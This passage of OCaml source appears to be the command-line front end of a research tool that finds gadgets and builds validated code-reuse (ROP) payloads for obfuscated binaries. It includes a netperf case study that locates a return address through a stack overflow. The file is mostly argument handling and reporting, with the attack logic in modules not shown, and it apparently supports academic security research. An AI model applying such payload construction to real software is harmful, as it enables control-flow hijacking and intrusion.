  Cmd.v (Cmd.info "scan" ~doc:"Count gadgets (the Fig. 1 / Table I census).")
    Term.(const run $ ablation_term $ prog_arg $ obf_arg $ jobs_arg
          $ cache_dir_arg)

(* ----- plan ----- *)

let plan_cmd =
  let goal_arg =
    Arg.(value & opt string "execve"
         & info [ "goal" ] ~docv:"GOAL" ~doc:"execve, mprotect, or mmap.")
  in
  let max_arg =
    Arg.(value & opt int 8 & info [ "max" ] ~docv:"N" ~doc:"Payloads to emit.")
  in
  let stats_arg =
    Arg.(value & flag
         & info [ "stats" ]
             ~doc:"Print per-stage statistics (planner counters, memo \
                   hits, stage seconds).")
  in
  let run () prog obf goal maxn budget jobs cache_dir stats json_errors =
    let image = compile_image prog obf in
    let o =
      Gp_core.Api.run ?budget:(budget_of budget) ~jobs ?cache_dir
        ~planner_config:
          { Gp_core.Planner.max_plans = maxn; node_budget = 4000;
            time_budget = 30.; branch_cap = 10; goal_cap = 6; max_steps = 14 }
        image (goal_of_name goal)
    in
    Printf.printf "pool %d gadgets; %d validated payload(s); rungs: %s\n"
      o.Gp_core.Api.stats.Gp_core.Api.pool_size
      (List.length o.Gp_core.Api.chains)
      (String.concat ","
         (List.map Gp_core.Api.rung_name o.Gp_core.Api.rungs));
    let st = o.Gp_core.Api.stats in
    if st.Gp_core.Api.budget_hits <> [] then
      Printf.printf "budget exhausted in: %s\n"
        (String.concat ", " st.Gp_core.Api.budget_hits);
    if st.Gp_core.Api.quarantined <> [] then
      Printf.printf "quarantined: %s\n"
        (String.concat ", "
           (List.map
              (fun (k, n) -> Printf.sprintf "%s=%d" k n)
              st.Gp_core.Api.quarantined));
    if stats then begin
      Printf.printf
        "planner: %d nodes expanded, peak queue %d, %d inst-memo hits, \
         %d cand-memo hits, %d plans discarded\n"
        st.Gp_core.Api.plan_expanded st.Gp_core.Api.plan_peak_queue
        st.Gp_core.Api.plan_inst_hits st.Gp_core.Api.plan_cand_hits
        st.Gp_core.Api.plan_discarded;
      Printf.printf
        "solver memo: %d hits / %d misses; %d unknowns\n"
        st.Gp_core.Api.cache_hits st.Gp_core.Api.cache_misses
        st.Gp_core.Api.solver_unknowns;
      Printf.printf
        "screening: %d abstract refutations, %d decided, %d concrete \
         refutations, %d elimination reuses\n"
        st.Gp_core.Api.screen_refuted st.Gp_core.Api.screen_decided
        st.Gp_core.Api.concrete_refuted st.Gp_core.Api.elim_reused;
      Printf.printf
        "fingerprints: %d store hits / %d misses; %d probes refuted\n"
        st.Gp_core.Api.fp_hits st.Gp_core.Api.fp_misses
        st.Gp_core.Api.fp_refuted;
      Printf.printf
        "summary store: %d hits / %d misses; %d loaded from disk%s; \
         %d decodes saved\n"
        st.Gp_core.Api.summary_hits st.Gp_core.Api.summary_misses
        st.Gp_core.Api.store_loaded
        (if st.Gp_core.Api.store_stale > 0 then " (stale store rejected)"
         else "")
        st.Gp_core.Api.decode_saved;
      Printf.printf
        "times: extract %.3fs, subsume %.3fs, plan %.3fs (validate %.3fs)\n"
        st.Gp_core.Api.extract_time st.Gp_core.Api.subsume_time
        st.Gp_core.Api.plan_time st.Gp_core.Api.validate_time
    end;
    print_newline ();
    List.iteri
      (fun i c ->
        Printf.printf "--- payload %d ---\n%s\n" (i + 1)
          (Gp_core.Payload.describe c))
      o.Gp_core.Api.chains;
    if json_errors then
      List.iter
        (fun (label, n) ->
          emit_failure ~json:true label
            (Printf.sprintf "%d item(s) quarantined" n))
        st.Gp_core.Api.quarantined;
    (* an empty result caused by budget starvation is a timeout, not
       "no chains exist" — surface it in the exit code *)
    if o.Gp_core.Api.chains = [] && st.Gp_core.Api.budget_hits <> [] then begin
      emit_failure ~json:json_errors "budget"
        ("no payload before budget ran out in: "
         ^ String.concat ", " st.Gp_core.Api.budget_hits);
      exit (Gp_core.Fail.exit_code_of_label "budget")
    end
  in
  Cmd.v (Cmd.info "plan" ~doc:"Build validated code-reuse payloads.")
    Term.(const run $ ablation_term $ prog_arg $ obf_arg $ goal_arg $ max_arg
          $ budget_arg $ jobs_arg $ cache_dir_arg $ stats_arg
          $ json_errors_arg)

(* ----- survey ----- *)

(* Checkpointed grid sweep (program x obfuscation config) through the
   supervised corpus runner (DESIGN.md §13).  With --manifest the
   incremental-store journal and the per-cell completion manifest live
   in DIR, fsync'd as the sweep progresses; a killed sweep re-run with
   --resume replays completed cells and recomputes the rest,
   bit-identical to an uninterrupted run. *)

let survey_cmd =
  let goal_arg =
    Arg.(value & opt string "execve"
         & info [ "goal" ] ~docv:"GOAL" ~doc:"execve, mprotect, or mmap.")
  in
  let manifest_arg =
    Arg.(value & opt (some string) None
         & info [ "manifest" ] ~docv:"DIR"
             ~doc:"Checkpoint directory: the write-ahead store journal \
                   and the per-cell completion manifest are fsync'd \
                   here as the sweep progresses, so a killed sweep can \
                   be picked up with $(b,--resume).")
  in
  let resume_arg =
    Arg.(value & flag
         & info [ "resume" ]
             ~doc:"Replay cells already recorded in the manifest \
                   instead of recomputing them (requires \
                   $(b,--manifest)).  A resumed sweep's results are \
                   bit-identical to an uninterrupted one.")
  in
  let full_arg =
    Arg.(value & flag
         & info [ "full" ]
             ~doc:"Sweep the full corpus grid instead of the quick \
                   subset.")
  in
  let attempts_arg =
    Arg.(value & opt int 3
         & info [ "max-attempts" ] ~docv:"N"
             ~doc:"Attempts per cell before a transient failure \
                   (timeout, exhausted budget) is recorded as final.")
  in
  let run () goal manifest resume full budget jobs max_attempts json_errors =
    let module R = Gp_harness.Runner in
    let module E = Gp_harness.Experiments in
    let module S = Gp_harness.Sched in
    if resume && manifest = None then begin
      emit_failure ~json:json_errors "usage" "--resume requires --manifest DIR";
      exit Cmd.Exit.cli_error
    end;
    (* --no-sweep lands here through the shared ablation table *)
    let no_sweep = not !E.sched_enabled in
    let policy =
      { R.default_policy with R.max_attempts; attempt_seconds = budget }
    in
    let outcomes, report, jo =
      if no_sweep then begin
        (* legacy sequential cell loop: [jobs] parallelizes WITHIN each
           cell's stages *)
        let cells =
          E.resume_cell_fns ~quick:(not full) ~jobs ~goal:(goal_of_name goal)
            ()
        in
        match manifest with
        | Some dir ->
          let o, r, jo = E.resume_sweep ~policy ~dir ~resume cells in
          (o, r, Some jo)
        | None ->
          let o, r =
            R.run_corpus ~policy ~encode:E.resume_payload_encode
              ~decode:E.resume_payload_decode cells
          in
          (o, r, None)
      end
      else begin
        (* pipelined cell x stage DAG (DESIGN.md §14): [jobs] sizes the
           shared work-stealing pool ACROSS cells; results are
           bit-identical to the sequential loop at any job count *)
        let cells =
          E.sweep_cell_steps ~quick:(not full) ~goal:(goal_of_name goal) ()
        in
        match manifest with
        | Some dir ->
          let o, r, jo = E.sched_sweep ~policy ~dir ~resume ~jobs cells in
          (o, r, Some jo)
        | None ->
          let o, r =
            S.run_cells ~policy ~encode:E.resume_payload_encode
              ~decode:E.resume_payload_decode ~jobs cells
          in
          (o, r, None)
      end
    in
    List.iter
      (fun (c : E.resume_payload R.cell_outcome) ->
        match c.R.c_result with
        | Ok p ->
          Printf.printf "%-32s %s  pool %4d  chains %d  rungs %s%s\n"
            c.R.c_key
            (if c.R.c_resumed then "resumed " else "computed")
            p.E.rp_pool
            (List.length p.E.rp_chains)
            (String.concat "," p.E.rp_rungs)
            (if c.R.c_retries > 0 then
               Printf.sprintf "  (%d retries)" c.R.c_retries
             else "")
        | Error f ->
          Printf.printf "%-32s FAILED: %s\n" c.R.c_key
            (Gp_core.Fail.to_string f))
      outcomes;
    Printf.printf "\n%d cell(s): %d computed, %d resumed, %d retries, %d failed\n"
      report.R.r_total report.R.r_computed report.R.r_resumed
      report.R.r_retries
      (List.length report.R.r_failed);
    (match jo with
     | None -> ()
     | Some jo ->
       (match jo.Gp_core.Incr.jo_status with
        | Gp_core.Incr.Loaded li
          when li.Gp_core.Incr.li_wal_replayed > 0
               || li.Gp_core.Incr.li_wal_truncated > 0 ->
          Printf.printf "store journal: %d entr(ies) replayed%s\n"
            li.Gp_core.Incr.li_wal_replayed
            (if li.Gp_core.Incr.li_wal_truncated > 0 then
               Printf.sprintf " (torn tail of %d byte(s) dropped)"
                 li.Gp_core.Incr.li_wal_truncated
             else "")
        | _ -> ());
       (* read-only demotion is a warning, not a failure: the sweep's
          results are correct, only persistence was skipped *)
       match jo.Gp_core.Incr.jo_mode with
       | `Read_only why -> emit_failure ~json:json_errors "store-locked" why
       | `Journaling -> ());
    match report.R.r_failed with
    | [] -> ()
    | ((_, first) :: _) as fails ->
      List.iter
        (fun (k, f) ->
          emit_failure ~json:json_errors (Gp_core.Fail.label f)
            (k ^ ": " ^ Gp_core.Fail.to_string f))
        fails;
      exit (Gp_core.Fail.exit_code first)
  in
  Cmd.v
    (Cmd.info "survey"
       ~doc:"Checkpointed corpus sweep with crash-safe resume.")
    Term.(const run $ ablation_term $ goal_arg $ manifest_arg $ resume_arg
          $ full_arg $ budget_arg $ jobs_arg $ attempts_arg
          $ json_errors_arg)

(* ----- netperf ----- *)

let netperf_cmd =
  let run () obf budget jobs cache_dir json_errors =
    let budget = budget_of budget in
    let b =
      Gp_harness.Workspace.build ~config_name:obf ~cfg:(obf_of_name obf)
        ?budget ~jobs ?cache_dir Gp_corpus.Netperf.entry
    in
    match Gp_harness.Netperf_attack.run ?budget b with
    | None ->
      emit_failure ~json:json_errors "emu"
        "probe failed: overflow did not reach the return-address cell";
      exit (Gp_core.Fail.exit_code_of_label "emu")
    | Some r ->
      Printf.printf "return-address cell at 0x%Lx (%d filler words)\n"
        r.Gp_harness.Netperf_attack.probe.Gp_harness.Netperf_attack.ret_cell
        r.Gp_harness.Netperf_attack.probe.Gp_harness.Netperf_attack.filler_words;
      Printf.printf "%d chain(s) confirmed end-to-end\n"
        (List.length r.Gp_harness.Netperf_attack.chains);
      match r.Gp_harness.Netperf_attack.chains with
      | c :: _ -> print_string (Gp_core.Payload.describe c)
      | [] -> ()
  in
  Cmd.v (Cmd.info "netperf" ~doc:"Run the netperf end-to-end case study.")
    Term.(const run $ ablation_term $ obf_arg $ budget_arg $ jobs_arg
          $ cache_dir_arg $ json_errors_arg)

(* ----- serve / submit (DESIGN.md §15) ----- *)

let socket_arg =
  Arg.(value & opt string "/tmp/gadget_planner.sock"
       & info [ "socket" ] ~docv:"PATH"
           ~doc:"Unix-domain socket the daemon listens on.")

let serve_cmd =
  let ckpt_every_arg =
    Arg.(value & opt int 8
         & info [ "checkpoint-every" ] ~docv:"N"
             ~doc:"Write a WAL checkpoint after every N analyses.")
  in
  let ckpt_secs_arg =
    Arg.(value & opt float 5.
         & info [ "checkpoint-secs" ] ~docv:"S"
             ~doc:"... or after the store has been dirty S seconds.")
  in
  let run () socket cache_dir jobs ckpt_every ckpt_secs json_errors =
    let module Sv = Gp_harness.Serve in
    let sm =
      Sv.serve
        { Sv.d_socket = socket; d_cache_dir = cache_dir; d_jobs = jobs;
          d_checkpoint_every = ckpt_every; d_checkpoint_s = ckpt_secs }
    in
    Printf.printf "served %d analyses; %d checkpoint(s); store %s\n"
      sm.Sv.sm_served sm.Sv.sm_checkpoints sm.Sv.sm_mode;
    if sm.Sv.sm_faults <> [] then begin
      Printf.printf "wire faults quarantined: %s\n"
        (String.concat ", "
           (List.map
              (fun (k, n) -> Printf.sprintf "%s=%d" k n)
              sm.Sv.sm_faults));
      if json_errors then
        List.iter
          (fun (label, n) ->
            emit_failure ~json:true label
              (Printf.sprintf "%d frame(s) quarantined" n))
          sm.Sv.sm_faults
    end;
    (* read-only demotion is a warning, as for survey: analyses are
       correct, only persistence was skipped *)
    match String.index_opt sm.Sv.sm_mode ':' with
    | Some _ -> emit_failure ~json:json_errors "store-locked" sm.Sv.sm_mode
    | None -> ()
  in
  Cmd.v
    (Cmd.info "serve"
       ~doc:"Run the resident analysis daemon: caches stay memory-hot \
             across requests, summaries persist through the write-ahead \
             journal with batched checkpoints, and concurrent requests \
             pipeline across pipeline stages on one domain pool.  \
             Stops on a client $(b,shutdown) request.")
    Term.(const run $ ablation_term $ socket_arg $ cache_dir_arg $ jobs_arg
          $ ckpt_every_arg $ ckpt_secs_arg $ json_errors_arg)

let submit_cmd =
  let goal_arg =
    Arg.(value & opt string "execve"
         & info [ "goal" ] ~docv:"GOAL" ~doc:"execve, mprotect, or mmap.")
  in
  let max_arg =
    Arg.(value & opt int 8 & info [ "max" ] ~docv:"N" ~doc:"Payloads to emit.")
  in
  let shutdown_arg =
    Arg.(value & flag
         & info [ "shutdown" ]
             ~doc:"After the analysis, ask the daemon to shut down.")
  in
  let run prog obf goal maxn budget jobs socket shutdown json_errors =
    let module Sv = Gp_harness.Serve in
    let fail label detail =
      emit_failure ~json:json_errors label detail;
      exit (Gp_core.Fail.exit_code_of_label label)
    in
    let image = compile_image prog obf in
    let rq =
      { (Sv.default_request image) with
        Sv.rq_goal = goal;
        rq_budget_s = Option.value budget ~default:0.;
        rq_max_plans = maxn;
        rq_node_budget = 4000;
        rq_time_budget = 30.;
        rq_branch_cap = 10;
        rq_goal_cap = 6;
        rq_max_steps = 14;
        rq_jobs = jobs }
    in
    match Sv.Client.connect socket with
    | Error why -> fail "frame-disconnect" ("cannot reach daemon: " ^ why)
    | Ok cl ->
      let finish () =
        if shutdown then ignore (Sv.Client.shutdown cl);
        Sv.Client.close cl
      in
      (match Sv.Client.submit cl rq with
      | Error f ->
        finish ();
        fail (Gp_core.Fail.label f) (Gp_core.Fail.to_string f)
      | Ok r ->
        finish ();
        (* same report shape as `plan`, fed from the daemon's reply *)
        Printf.printf "pool %d gadgets; %d validated payload(s); rungs: %s\n"
          r.Sv.sr_pool
          (List.length r.Sv.sr_chains)
          (String.concat "," r.Sv.sr_rungs);
        if r.Sv.sr_budget_hits <> [] then
          Printf.printf "budget exhausted in: %s\n"
            (String.concat ", " r.Sv.sr_budget_hits);
        if r.Sv.sr_quarantined <> [] then
          Printf.printf "quarantined: %s\n"
            (String.concat ", "
               (List.map
                  (fun (k, n) -> Printf.sprintf "%s=%d" k n)
                  r.Sv.sr_quarantined));
        print_newline ();
        List.iteri
          (fun i (_, desc) ->
            Printf.printf "--- payload %d ---\n%s\n" (i + 1) desc)
          r.Sv.sr_chains;
        if json_errors then
          List.iter
            (fun (label, n) ->
              emit_failure ~json:true label
                (Printf.sprintf "%d item(s) quarantined" n))
            r.Sv.sr_quarantined;
        if r.Sv.sr_chains = [] && r.Sv.sr_budget_hits <> [] then begin
          emit_failure ~json:json_errors "budget"
            ("no payload before budget ran out in: "
             ^ String.concat ", " r.Sv.sr_budget_hits);
          exit (Gp_core.Fail.exit_code_of_label "budget")
        end)
  in
  Cmd.v
    (Cmd.info "submit"
       ~doc:"Compile a program and submit it to a running daemon; the \
             report is identical to running $(b,plan) locally.")
    Term.(const run $ prog_arg $ obf_arg $ goal_arg $ max_arg $ budget_arg
          $ jobs_arg $ socket_arg $ shutdown_arg $ json_errors_arg)

(* ----- disasm ----- *)

let disasm_cmd =
  let run prog obf =
    let image = compile_image prog obf in
    let code = image.Gp_util.Image.code in
    let base = image.Gp_util.Image.code_base in
    let pos = ref 0 in
    while !pos < Bytes.length code do
      let addr = Int64.add base (Int64.of_int !pos) in
      (match Gp_util.Image.symbol_at image addr with
       | Some s when s.Gp_util.Image.sym_addr = addr ->
         Printf.printf "\n%s:\n" s.Gp_util.Image.sym_name
       | _ -> ());
      match Gp_x86.Decode.decode code !pos with
      | Some (insn, len) ->
        Printf.printf "  %08Lx  %-24s %s\n" addr
          (Gp_util.Hex.of_bytes (Bytes.sub code !pos len))
          (Gp_x86.Insn.to_string insn);
        pos := !pos + len
      | None ->
        Printf.printf "  %08Lx  %02x                      (bad)\n" addr
          (Bytes.get_uint8 code !pos);
        incr pos
    done
  in
  Cmd.v
    (Cmd.info "disasm" ~doc:"Linear disassembly of a compiled program.")
    Term.(const run $ prog_arg $ obf_arg)

(* ----- list ----- *)

let list_cmd =
  let run () =
    List.iter
      (fun (e : Gp_corpus.Programs.entry) ->
        Printf.printf "%-16s %s\n" e.Gp_corpus.Programs.name
          e.Gp_corpus.Programs.description)
      (Gp_corpus.Programs.all @ Gp_corpus.Spec.all @ [ Gp_corpus.Netperf.entry ])
  in
  Cmd.v (Cmd.info "list" ~doc:"List the corpus programs.") Term.(const run $ const ())

let () =
  let default = Term.(ret (const (`Help (`Pager, None)))) in
  exit
    (Cmd.eval
       (Cmd.group ~default
          (Cmd.info "gadget_planner" ~version:"1.0.0"
             ~doc:"Code-reuse attack construction on obfuscated binaries.")
          [ compile_cmd; scan_cmd; plan_cmd; survey_cmd; netperf_cmd;
            serve_cmd; submit_cmd; disasm_cmd; list_cmd ]))
